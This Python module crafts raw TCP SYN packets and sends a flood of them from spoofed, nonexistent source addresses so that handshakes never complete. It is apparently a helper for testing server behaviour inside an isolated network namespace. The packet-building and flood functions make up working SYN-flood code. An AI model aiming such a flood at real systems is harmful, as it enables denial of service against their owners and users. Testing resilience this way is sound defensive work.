# SPDX-License-Identifier: Apache-2.0
"""SYNs from addresses that do not exist, so that the handshake is never finished."""
import socket
import struct


def _sum16(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def syn(source, port, target, target_port):
    """An IPv4 packet; the kernel fills in the checksum of the IP header."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    segment_size = b"\x02\x04" + struct.pack(">H", 1460)
    tcp = struct.pack(">HHIIBBHHH", port, target_port, 1000, 0, 6 << 4, 2, 65535, 0, 0)
    tcp += segment_size
    checksum = _sum16(ends + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack(">H", checksum) + tcp[18:]
    return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP,
                       0) + ends + tcp


def flood(network, target, port, number):
    """So many SYNs out of the peer's namespace, each from an address and port of its own."""
    with network.peer():
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for n in range(number):
        raw.sendto(syn(f"10.9.9.{20 + n % 200}", 2000 + n, target, port), (target, 0))
    raw.close()
